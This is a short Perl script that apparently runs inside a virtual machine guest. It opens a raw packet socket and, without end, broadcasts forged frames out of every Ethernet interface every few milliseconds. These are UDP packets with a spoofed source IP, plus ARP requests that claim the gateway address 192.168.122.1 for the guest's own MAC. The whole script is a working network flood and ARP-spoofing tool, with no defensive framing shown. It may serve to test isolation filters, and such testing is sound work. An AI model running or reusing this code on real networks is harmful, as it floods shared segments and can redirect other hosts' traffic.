# Sends frames out of every nic as soon as there is one, without end: to everybody, as from an address of others.
# Without modules, which the guest's initramfs does not hold. Numbers: AF_PACKET, SOCK_RAW (linux/socket.h).
socket(my $socket, 17, 3, 0) or die "no raw socket: $!";
my %up;

sub first_line {
    open(my $file, '<', $_[0]) or return '';
    my $line = <$file>;
    chomp $line;
    return $line;
}

while (1) {
    opendir(my $folder, '/sys/class/net') or die "no nics: $!";
    for my $nic (grep { /^eth/ } readdir $folder) {
        my $mac = first_line("/sys/class/net/$nic/address");
        my $index = first_line("/sys/class/net/$nic/ifindex") or next;
        system('ip', 'link', 'set', $nic, 'up') unless $up{$nic}++;
        $mac =~ s/://g;
        my $source = pack('H12', $mac);
        my $to = pack('S n i S C C a8', 17, 0x0800, $index, 0, 0, 6, "\xff" x 6);
        my $head = "\xff" x 6 . $source;
        my $ip = pack('C2 n3 C2 n C4 C4 n4', 0x45, 0, 28, 1, 0, 64, 17, 0, 192, 168, 122, 77, (255) x 4, 9, 9, 8, 0);
        my $arp = pack('n2 C2 n a6 C4 a6 C4', 1, 0x0800, 6, 4, 1, $source, 192, 168, 122, 1, "\0" x 6, 192, 168, 122, 1);
        send($socket, $head . pack('n', 0x0800) . $ip, 0, $to);
        send($socket, $head . pack('n', 0x0806) . $arp, 0, $to);
    }
    select(undef, undef, undef, 0.002);
}
